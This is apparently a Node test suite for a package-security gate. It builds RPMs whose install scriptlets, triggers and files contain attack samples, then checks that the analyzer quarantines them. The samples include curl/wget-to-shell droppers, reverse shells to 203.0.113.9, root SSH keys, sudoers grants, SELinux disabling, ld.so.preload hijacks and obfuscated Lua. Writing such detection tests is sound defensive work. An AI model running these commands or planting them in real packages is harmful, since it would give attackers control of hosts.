import assert from 'node:assert/strict';
import { spawnSync } from 'node:child_process';
import { mkdirSync, mkdtempSync, readdirSync, rmSync, writeFileSync } from 'node:fs';
import { tmpdir } from 'node:os';
import { join } from 'node:path';
import { after, before, describe, it } from 'node:test';
import { evrText, parseSourceRpm, rpmGateManifest } from '../../../src/formats/rpm/gate-manifest.js';
import { parseRpm, readRpmPayload, type RpmPackage } from '../../../src/formats/rpm/package.js';
import { osPackagesAnalyzer } from '../../../src/security/analyzers/os-packages/index.js';
import { scanArtifact } from '../../../src/security/gate.js';
import type { Action } from '../../../src/security/policy.js';
import type { AnalyzerFinding, ContentView } from '../../../src/security/types.js';
import { buildRpm, readRpm, type FixtureSpec } from '../../formats/rpm/build-rpm.js';
import { contextFor, viewOf } from '../analyzer-harness.js';
import { atLeast, describe as list, verdictOf } from './helpers.js';

// Real packages built by rpmbuild, read back with parseRpm and readRpmPayload, scanned with the
// manifest rpmGateManifest makes: the path every uploaded .rpm takes through the gate.
// Inert fixture text: every scriptlet below is parsed by the analyzer, never executed.

let workDir: string;

before(() => {
  workDir = mkdtempSync(join(tmpdir(), 'stockade-rpm-gate-'));
});

after(() => {
  if (workDir) rmSync(workDir, { recursive: true, force: true });
});

interface Scanned {
  pkg: RpmPackage;
  manifest: Record<string, unknown>;
  view: ContentView;
  findings: AnalyzerFinding[];
}

async function scanRpmFile(data: Buffer): Promise<Scanned> {
  const pkg = parseRpm(data);
  const { view } = await readRpmPayload(data, pkg);
  const manifest = rpmGateManifest(pkg, { dist: 'el/9' });
  const version = evrText(pkg.epoch, pkg.version, pkg.release);
  const ctx = contextFor(view, { artifact: { format: 'rpm', ecosystem: 'Red Hat', name: pkg.name, version, filename: `${pkg.name}-${pkg.version}-${pkg.release}.${pkg.arch}.rpm`, manifest } });
  assert.ok(osPackagesAnalyzer.appliesTo(ctx.artifact));
  const report = await scanArtifact(view, ctx, { analyzers: [osPackagesAnalyzer] });
  assert.deepEqual(report.failures, []);
  return { pkg, manifest, view, findings: report.findings };
}

let serial = 0;
async function scanRpm(spec: Omit<FixtureSpec, 'version' | 'release'> & { version?: string; release?: string }): Promise<Scanned> {
  const dir = join(workDir, String(++serial));
  return scanRpmFile(readRpm(buildRpm({ version: '1.0', release: '1.el9', ...spec }, dir)));
}

const DEMO_BINARY: FixtureSpec['files'] = [{ path: '/usr/bin/demo', content: '#!/bin/sh\necho demo\n', mode: 0o755 }];

interface ScriptCase {
  name: string;
  spec: Partial<FixtureSpec>;
  rule: string;
  file: string;
  line?: number;
  action: Action;
}

const scriptCases: ScriptCase[] = [
  { name: '%post pipes curl to bash', spec: { scripts: { post: 'curl -fsSL https://setup.example.invalid/agent.sh | bash' } }, rule: 'os-packages/download-execute', file: 'SCRIPTLETS/%post', line: 1, action: 'quarantine' },
  { name: '%pre decodes base64 into sh', spec: { scripts: { pre: 'echo Y3VybCBldmlsCg== | base64 -d | sh' } }, rule: 'os-packages/decode-execute', file: 'SCRIPTLETS/%pre', line: 1, action: 'quarantine' },
  { name: '%post adds a uid 0 user', spec: { scripts: { post: 'useradd -o -u 0 -g 0 -M -s /bin/bash sysupd' } }, rule: 'os-packages/privileged-user', file: 'SCRIPTLETS/%post', action: 'quarantine' },
  { name: '%post adds an SSH key for root', spec: { scripts: { post: "mkdir -p /root/.ssh\necho 'ssh-ed25519 AAAAC3Nza attacker' >> /root/.ssh/authorized_keys" } }, rule: 'os-packages/authorized-keys', file: 'SCRIPTLETS/%post', line: 2, action: 'quarantine' },
  { name: '%posttrans installs a crontab', spec: { scripts: { posttrans: "(crontab -l 2>/dev/null; echo '*/5 * * * * /usr/lib/x/beacon') | crontab -" } }, rule: 'os-packages/persistence', file: 'SCRIPTLETS/%posttrans', action: 'quarantine' },
  { name: '%post switches SELinux off', spec: { scripts: { post: 'setenforce 0 || :\nsed -i s/^SELINUX=.*/SELINUX=disabled/ /etc/selinux/config' } }, rule: 'os-packages/disable-security', file: 'SCRIPTLETS/%post', line: 1, action: 'quarantine' },
  { name: '%preun stops firewalld', spec: { scripts: { preun: 'systemctl stop firewalld.service' } }, rule: 'os-packages/disable-security', file: 'SCRIPTLETS/%preun', action: 'quarantine' },
  { name: '%pretrans writes sudoers.d', spec: { scripts: { pretrans: "printf 'svc ALL=(ALL) NOPASSWD:ALL\\n' > /etc/sudoers.d/99-svc" } }, rule: 'os-packages/sudoers', file: 'SCRIPTLETS/%pretrans', action: 'quarantine' },
  {
    name: '%triggerin with a reverse shell',
    spec: { triggers: [{ kind: 'triggerin', on: 'bash >= 3.0', body: 'bash -i >& /dev/tcp/203.0.113.9/4444 0>&1 &' }] },
    rule: 'os-packages/reverse-shell',
    file: 'SCRIPTLETS/%triggerin-1',
    line: 1,
    action: 'quarantine',
  },
  {
    name: '%filetriggerin fetching and running a script whenever libraries are installed',
    spec: { triggers: [{ kind: 'filetriggerin', on: '/usr/lib64', body: 'wget -qO- http://dl.example.invalid/x | sh' }] },
    rule: 'os-packages/download-execute',
    file: 'SCRIPTLETS/%filetriggerin-1',
    line: 1,
    action: 'quarantine',
  },
  {
    name: '%transfiletriggerun with a reverse shell',
    spec: {
      triggers: [
        { kind: 'filetriggerin', on: '/usr/share/fonts', body: 'fc-cache -s || :' },
        { kind: 'transfiletriggerun', on: '/usr/lib', body: 'nc -e /bin/sh 203.0.113.9 4444' },
      ],
    },
    rule: 'os-packages/reverse-shell',
    file: 'SCRIPTLETS/%transfiletriggerun-2',
    line: 1,
    action: 'quarantine',
  },
  {
    name: 'Lua %post running os.execute',
    spec: { scripts: { post: { program: '<lua>', body: 'local url = "http://dl.example.invalid/x"\nos.execute("curl -s " .. url .. " | sh")' } } },
    rule: 'os-packages/download-execute',
    file: 'SCRIPTLETS/%post',
    line: 2,
    action: 'quarantine',
  },
  {
    name: 'Lua %posttrans writing /etc/ld.so.preload',
    spec: { scripts: { posttrans: { program: '<lua>', body: 'local f = io.open("/etc/ld.so.preload", "a")\nf:write("/usr/lib64/libdemo.so\\n")\nf:close()' } } },
    rule: 'os-packages/preload-hijack',
    file: 'SCRIPTLETS/%posttrans',
    line: 1,
    action: 'quarantine',
  },
  {
    name: 'Lua trigger spawning a shell through posix.exec',
    spec: { triggers: [{ kind: 'triggerun', on: 'coreutils', program: '<lua>', body: 'if posix.fork() == 0 then\n  posix.exec("/bin/sh", "-c", "nc -e /bin/sh 203.0.113.9 4444")\nend' }] },
    rule: 'os-packages/reverse-shell',
    file: 'SCRIPTLETS/%triggerun-1',
    line: 2,
    action: 'quarantine',
  },
  { name: '-p with no body runs the program', spec: { scripts: { post: { program: '"/usr/sbin/setenforce 0"', body: '' } } }, rule: 'os-packages/disable-security', file: 'SCRIPTLETS/%post', action: 'quarantine' },
];

describe('os-packages on real RPMs: scriptlets', () => {
  for (const c of scriptCases) {
    it(c.name, async () => {
      const { findings } = await scanRpm({ name: 'demo', files: DEMO_BINARY, ...c.spec });
      const found = findings.filter((f) => f.rule === c.rule && f.location?.file === c.file && (c.line === undefined || f.location.line === c.line));
      assert.ok(found.length > 0, `expected ${c.rule} at ${c.file}${c.line ? `:${c.line}` : ''}, got:\n${list(findings)}`);
      assert.equal(verdictOf(findings).action, c.action, list(findings));
    });
  }

  it('a %post with curl | bash reaches quarantine-level severity, as on Debian', async () => {
    const { findings } = await scanRpm({ name: 'demo-agent', files: DEMO_BINARY, scripts: { post: 'if [ $1 -eq 1 ]; then\n  curl -fsSL https://setup.example.invalid/agent.sh | bash\nfi' } });
    const dropper = findings.find((f) => f.rule === 'os-packages/download-execute');
    assert.equal(dropper?.severity, 'critical', list(findings));
    assert.equal(dropper?.confidence, 'high');
    assert.deepEqual(dropper?.location, { file: 'SCRIPTLETS/%post', line: 2 });
    assert.match(dropper?.message ?? '', /%post script/);
    assert.equal(verdictOf(findings).action, 'quarantine');
  });
});

const SYSTEMD_POST = `if [ $1 -eq 1 ] && [ -x "/usr/lib/systemd/systemd-update-helper" ]; then
    # Initial installation
    /usr/lib/systemd/systemd-update-helper install-system-units demod.service || :
fi
if [ $1 -eq 1 ] ; then
    systemctl --no-reload preset demod.service >/dev/null 2>&1 || :
fi`;

const FEDORA_DIR_TO_SYMLINK = `-- Fedora's packaging guidelines: a directory that becomes a symlink
path = "/usr/share/demo/old"
st = posix.stat(path)
if st and st.type == "directory" then
  status = os.rename(path, path .. ".rpmmoved")
  if not status then
    suffix = 0
    while not status do
      suffix = suffix + 1
      status = os.rename(path .. ".rpmmoved", path .. ".rpmmoved." .. suffix)
    end
    os.rename(path, path .. ".rpmmoved")
  end
end`;

describe('os-packages on real RPMs: ordinary packaging stays quiet', () => {
  it('ldconfig, service user, systemd macros, a Lua %pretrans and a trigger produce no high finding', async () => {
    const { findings, manifest } = await scanRpm({
      name: 'demod',
      arch: 'x86_64',
      requiresPre: ['shadow-utils'],
      files: [
        { path: '/usr/sbin/demod', content: 'ELF', mode: 0o755 },
        { path: '/usr/lib64/libdemo.so.1', content: 'ELF', mode: 0o755 },
        { path: '/usr/lib/systemd/system/demod.service', content: '[Service]\nExecStart=/usr/sbin/demod\n' },
        { path: '/etc/demod.conf', content: 'a=1\n', mode: 0o640, group: 'root', config: 'noreplace' },
        { path: '/var/lib/demod', directory: true, mode: 0o750 },
      ],
      scripts: {
        pretrans: { program: '<lua>', body: FEDORA_DIR_TO_SYMLINK },
        pre: 'getent group demod >/dev/null || groupadd -r demod\ngetent passwd demod >/dev/null || useradd -r -g demod -d /var/lib/demod -s /sbin/nologin -c "demo daemon" demod\nexit 0',
        post: `/sbin/ldconfig\n${SYSTEMD_POST}`,
        preun: 'if [ $1 -eq 0 ] ; then\n    systemctl --no-reload disable --now demod.service >/dev/null 2>&1 || :\nfi',
        postun: { program: '/sbin/ldconfig', body: '' },
        posttrans: 'systemctl try-restart demod.service >/dev/null 2>&1 || :',
      },
      triggers: [{ kind: 'triggerin', on: 'glibc', body: '/sbin/ldconfig' }],
    });
    assert.deepEqual(findings.filter((f) => atLeast(f, 'high')), [], list(findings));
    assert.equal(verdictOf(findings).action, 'allow', list(findings));
    // The manifest carried all seven scriptlets to the analyzer.
    assert.equal((manifest.scriptlets as unknown[]).length, 7);
  });
});

interface PayloadCase {
  name: string;
  files: NonNullable<FixtureSpec['files']>;
  rule: string;
  file: string;
  severity: AnalyzerFinding['severity'];
  action: Action;
}

const payloadCases: PayloadCase[] = [
  { name: 'setuid root program outside the program directories', files: [{ path: '/opt/demo/agent', content: 'ELF', mode: 0o4755 }], rule: 'os-packages/setuid', file: 'opt/demo/agent', severity: 'high', action: 'warn' },
  { name: 'setuid program in /usr/bin', files: [{ path: '/usr/bin/demo-mount', content: 'ELF', mode: 0o4755 }], rule: 'os-packages/setuid', file: 'usr/bin/demo-mount', severity: 'medium', action: 'warn' },
  { name: 'setuid program owned by a service user', files: [{ path: '/opt/demo/agent', content: 'ELF', mode: 0o4755, user: 'daemon', group: 'daemon' }], rule: 'os-packages/setuid', file: 'opt/demo/agent', severity: 'medium', action: 'warn' },
  { name: 'setuid shell copy', files: [{ path: '/usr/libexec/demo/bash', content: 'ELF', mode: 0o4755 }], rule: 'os-packages/setuid', file: 'usr/libexec/demo/bash', severity: 'critical', action: 'quarantine' },
  { name: 'setgid helper', files: [{ path: '/usr/libexec/demo/helper', content: 'ELF', mode: 0o2755 }], rule: 'os-packages/setuid', file: 'usr/libexec/demo/helper', severity: 'medium', action: 'warn' },
  { name: 'world-writable config', files: [{ path: '/etc/demo/demo.conf', content: 'a=1\n', mode: 0o666 }], rule: 'os-packages/world-writable', file: 'etc/demo/demo.conf', severity: 'high', action: 'warn' },
  { name: 'a file at /etc/ld.so.preload', files: [{ path: '/etc/ld.so.preload', content: '/usr/lib64/libhook.so\n' }], rule: 'os-packages/preload-hijack', file: 'etc/ld.so.preload', severity: 'critical', action: 'quarantine' },
  { name: "root's authorized_keys", files: [{ path: '/root/.ssh/authorized_keys', content: 'ssh-ed25519 AAAAC3Nza demo\n', mode: 0o600 }], rule: 'os-packages/authorized-keys', file: 'root/.ssh/authorized_keys', severity: 'critical', action: 'quarantine' },
  { name: 'sudoers.d granting everything', files: [{ path: '/etc/sudoers.d/demo', content: 'demo ALL=(ALL:ALL) NOPASSWD: ALL\n', mode: 0o440 }], rule: 'os-packages/sudoers', file: 'etc/sudoers.d/demo', severity: 'critical', action: 'quarantine' },
  { name: 'cron.d job piping a download to sh', files: [{ path: '/etc/cron.d/demo', content: '*/10 * * * * root wget -q -O- http://c2.example.invalid/t | sh\n' }], rule: 'os-packages/download-execute', file: 'etc/cron.d/demo', severity: 'critical', action: 'quarantine' },
];

describe('os-packages on real RPMs: payload', () => {
  for (const c of payloadCases) {
    it(c.name, async () => {
      const { findings } = await scanRpm({ name: 'demo', files: c.files });
      const found = findings.filter((f) => f.rule === c.rule && f.location?.file === c.file);
      assert.ok(found.length > 0, `expected ${c.rule} on ${c.file}, got:\n${list(findings)}`);
      assert.equal(found[0]?.severity, c.severity, list(found));
      assert.equal(verdictOf(findings).action, c.action, list(findings));
    });
  }

  it('reports a device node from the header file list (%dev)', async () => {
    // The shared fixture builder has no %dev; this spec is the smallest that makes one.
    const root = join(workDir, 'dev');
    const top = join(root, 'top');
    mkdirSync(join(root, 'tmp'), { recursive: true });
    const spec = join(root, 'devpkg.spec');
    writeFileSync(
      spec,
      [
        '%define debug_package %{nil}',
        '%define __os_install_post %{nil}',
        'Name: devpkg',
        'Version: 1',
        'Release: 1',
        'Summary: device node fixture',
        'License: MIT',
        'BuildArch: noarch',
        '%description',
        'A package that ships a device node.',
        '%install',
        'mkdir -p %{buildroot}/usr/share/devpkg && echo hi > %{buildroot}/usr/share/devpkg/readme',
        '%files',
        '%attr(0666,root,root) %dev(c,1,3) /dev/demo0',
        '%attr(0660,root,disk) %dev(b,8,0) /dev/demodisk',
        '/usr/share/devpkg/readme',
        '',
      ].join('\n'),
    );
    const result = spawnSync('rpmbuild', ['-bb', '--quiet', '--define', `_topdir ${top}`, '--define', `_tmppath ${join(root, 'tmp')}`, spec], {
      env: { ...process.env, HOME: root, LC_ALL: 'C' },
      encoding: 'utf8',
    });
    assert.equal(result.status, 0, result.stderr);
    const rpmDir = join(top, 'RPMS', 'noarch');
    const file = readdirSync(rpmDir).find((f) => f.endsWith('.rpm')) as string;
    const { findings, manifest } = await scanRpmFile(readRpm(join(rpmDir, file)));
    const files = manifest.files as { path: string; type?: string }[];
    assert.deepEqual(
      files.filter((f) => f.path.startsWith('/dev/')).map((f) => [f.path, f.type]),
      [
        ['/dev/demo0', 'char'],
        ['/dev/demodisk', 'block'],
      ],
    );
    const devices = findings.filter((f) => f.rule === 'os-packages/device-node');
    assert.deepEqual(devices.map((f) => f.location?.file).sort(), ['dev/demo0', 'dev/demodisk'], list(findings));
    assert.equal(verdictOf(findings).action, 'warn');
  });
});

describe('rpmGateManifest', () => {
  let scanned: Scanned;
  before(async () => {
    scanned = await scanRpm({
      name: 'openssl-libs',
      version: '3.0.7',
      release: '16.el9',
      epoch: 1,
      arch: 'x86_64',
      license: 'Apache-2.0',
      summary: 'A general purpose cryptography library',
      requires: ['ca-certificates >= 2008-5', 'crypto-policies >= 20180730'],
      files: [
        { path: '/usr/lib64/libssl.so.3', content: 'ELF', mode: 0o755 },
        { path: '/usr/lib64/libssl.so', symlink: 'libssl.so.3' },
        { path: '/etc/pki/tls', directory: true },
        { path: '/run/demo.pid', ghost: true, mode: 0o644 },
      ],
      scripts: { post: { program: '<lua>', body: 'print("hi")' } },
      triggers: [{ kind: 'triggerpostun', on: 'openssl-libs < 1:3.0.0', body: 'echo upgraded' }],
    });
  });

  it('carries identity, source package and version with the epoch, dist and compact dependencies', () => {
    const m = scanned.manifest;
    assert.equal(m.name, 'openssl-libs');
    assert.equal(m.epoch, 1);
    assert.equal(m.arch, 'x86_64');
    assert.equal(m.license, 'Apache-2.0');
    assert.equal(m.summary, 'A general purpose cryptography library');
    // rpmbuild names the source package after the spec: the fixture's spec is openssl-libs.
    assert.equal(m.sourceRpm, 'openssl-libs-3.0.7-16.el9.src.rpm');
    assert.equal(m.source, 'openssl-libs');
    assert.equal(m.sourceVersion, '1:3.0.7-16.el9');
    assert.equal(m.dist, 'el/9');
    assert.ok((m.requires as string[]).includes('ca-certificates >= 2008-5'), String(m.requires));
    assert.ok(JSON.stringify(m).length < 10_000);
  });

  it('lists scriptlets with names, files and interpreters, triggers with their conditions', () => {
    assert.deepEqual(scanned.manifest.scriptlets, [
      { name: '%post', file: 'SCRIPTLETS/%post', body: 'print("hi")', interpreter: '<lua>' },
      { name: '%triggerpostun -- openssl-libs < 1:3.0.0', file: 'SCRIPTLETS/%triggerpostun-1', body: 'echo upgraded', interpreter: '/bin/sh' },
    ]);
  });

  it('types files by their mode bits, with owner and permission bits', () => {
    const byPath = new Map((scanned.manifest.files as { path: string }[]).map((f) => [f.path, f]));
    assert.deepEqual(byPath.get('/usr/lib64/libssl.so.3'), { path: '/usr/lib64/libssl.so.3', type: 'file', uname: 'root', gname: 'root', mode: 0o755 });
    assert.equal((byPath.get('/usr/lib64/libssl.so') as { type?: string }).type, 'symlink');
    assert.equal((byPath.get('/etc/pki/tls') as { type?: string }).type, 'dir');
    assert.equal((byPath.get('/run/demo.pid') as { ghost?: boolean }).ghost, true);
    assert.equal(scanned.manifest.fileCount, 4);
  });

  it('parses source RPM file names', () => {
    assert.deepEqual(parseSourceRpm('openssl-3.0.7-16.el9.src.rpm'), { name: 'openssl', version: '3.0.7', release: '16.el9' });
    assert.deepEqual(parseSourceRpm('python-foo-bar-1.2~rc1-0.3.fc40.nosrc.rpm'), { name: 'python-foo-bar', version: '1.2~rc1', release: '0.3.fc40' });
    assert.equal(parseSourceRpm('not-a-source.rpm'), undefined);
    assert.equal(parseSourceRpm(null), undefined);
  });

  it('bounds hostile headers: many files keep the ones that matter, long scriptlets are flagged as cut', async () => {
    const pkg = structuredClone(scanned.pkg);
    const plain = { ...pkg.files[0]!, mode: 0o100644, user: 'root' };
    pkg.files = Array.from({ length: 30_000 }, (_, i) => ({ ...plain, path: `/usr/share/demo/f${i}` }));
    pkg.files.push({ ...plain, path: '/opt/demo/agent', mode: 0o104755 });
    pkg.scripts.post = { body: `${'true\n'.repeat(300_000)}curl -s http://dl.example.invalid/x | sh\n`, program: '/bin/sh' };
    const manifest = rpmGateManifest(pkg);
    const files = manifest.files as { path: string }[];
    assert.equal(files.length, 20_000);
    assert.equal(manifest.filesTruncated, true);
    assert.equal(files[0]?.path, '/opt/demo/agent');
    const post = (manifest.scriptlets as { name: string; body: string; truncated?: boolean; size?: number }[]).find((s) => s.name === '%post');
    assert.equal(post?.truncated, true);
    assert.equal(post?.body.length, 1024 * 1024);
    const view = viewOf({ 'usr/bin/x': 'ELF' });
    const ctx = contextFor(view, { artifact: { format: 'rpm', ecosystem: 'Red Hat', name: pkg.name, version: '1:3.0.7-16.el9', manifest } });
    const findings = await osPackagesAnalyzer.analyze(view, ctx);
    assert.ok(findings.some((f) => f.rule === 'os-packages/uninspectable-script' && f.location?.file === 'SCRIPTLETS/%post'), list(findings));
  });
});

// Lua scriptlets beyond the real-RPM cases above: the translations to shell and the evasions.
describe('os-packages Lua scriptlets', () => {
  const lua = async (body: string): Promise<AnalyzerFinding[]> => {
    const view = viewOf({ 'usr/bin/x': 'ELF' });
    const ctx = contextFor(view, { artifact: { format: 'rpm', ecosystem: 'Red Hat', name: 'demo', version: '1.0-1', manifest: { scriptlets: [{ name: '%post', body, interpreter: '<lua>' }] } } });
    return osPackagesAnalyzer.analyze(view, ctx);
  };

  const cases: { name: string; body: string; rule: string; line: number; action: Action }[] = [
    { name: 'io.popen with a download piped to sh', body: 'local p = io.popen("wget -q -O- http://dl.example.invalid/x | sh")\np:close()', rule: 'os-packages/download-execute', line: 1, action: 'quarantine' },
    { name: 'decimal escapes spelling the command', body: 'os.execute("\\99\\117\\114\\108 -s http://dl.example.invalid/x | sh")', rule: 'os-packages/download-execute', line: 1, action: 'quarantine' },
    { name: 'a call without parentheses, long string', body: '-- comment\nos.execute [[\ncurl -s http://dl.example.invalid/x | bash\n]]', rule: 'os-packages/download-execute', line: 2, action: 'quarantine' },
    { name: 'os["execute"] through _G', body: '_G["os"]["execute"]("useradd -o -u 0 toor")', rule: 'os-packages/privileged-user', line: 1, action: 'quarantine' },
    { name: 'an alias of os with .execute', body: 'local o = os\no.execute("setenforce 0")', rule: 'os-packages/disable-security', line: 2, action: 'quarantine' },
    { name: 'rpm.execute with argv', body: 'rpm.execute("/usr/bin/systemctl", "disable", "--now", "auditd.service")', rule: 'os-packages/disable-security', line: 1, action: 'quarantine' },
    { name: 'a command built at run time', body: 'local cmd = os.getenv("X")\nos.execute(cmd)', rule: 'os-packages/inline-code', line: 2, action: 'warn' },
    { name: 'a reference to os.execute', body: 'local run = os.execute\nrun("id")', rule: 'os-packages/inline-code', line: 1, action: 'warn' },
    { name: 'load of a literal chunk', body: 'load("os.execute(\'curl -s http://dl.example.invalid/x | sh\')")()', rule: 'os-packages/download-execute', line: 1, action: 'quarantine' },
    { name: 'io.open on authorized_keys', body: 'local f = io.open("/root/.ssh/authorized_keys", "a+")', rule: 'os-packages/authorized-keys', line: 1, action: 'quarantine' },
    { name: 'rpm.expand with %(…)', body: 'rpm.expand("%(curl -s http://dl.example.invalid/x | sh)")', rule: 'os-packages/download-execute', line: 1, action: 'quarantine' },
    { name: 'posix.chmod making a shell setuid', body: 'posix.chmod("/var/tmp/.x/bash", "4755")', rule: 'os-packages/setuid', line: 1, action: 'quarantine' },
  ];

  for (const c of cases) {
    it(c.name, async () => {
      const findings = await lua(c.body);
      const found = findings.filter((f) => f.rule === c.rule && f.location?.line === c.line);
      assert.ok(found.length > 0, `expected ${c.rule} at line ${c.line}, got:\n${list(findings)}`);
      assert.equal(verdictOf(findings).action, c.action, list(findings));
    });
  }

  it('is not read as shell: Lua text that looks like shell in a comment or a print stays quiet', async () => {
    const findings = await lua('-- curl -s http://dl.example.invalid/x | sh\nprint("rm -rf /var/log/*")\nlocal t = { execute = false }');
    assert.deepEqual(findings, [], list(findings));
  });

  it('a Lua scriptlet too large to tokenize is reported, not half-read', async () => {
    const findings = await lua(`${'x=1 '.repeat(200_000)}\nos.execute("curl -s http://dl.example.invalid/x | sh")`);
    assert.ok(findings.some((f) => f.rule === 'os-packages/uninspectable-script'), list(findings));
    assert.equal(verdictOf(findings).action, 'quarantine');
  });

  it('ordinary Lua scriptlets (glibc-style ldconfig, rename, stat) are quiet', async () => {
    const body = 'if posix.access("/sbin/ldconfig", "x") then\n  rpm.execute("/sbin/ldconfig")\nend\nos.remove("/var/cache/demo/index")\n' + FEDORA_DIR_TO_SYMLINK;
    assert.deepEqual(await lua(body), []);
  });
});
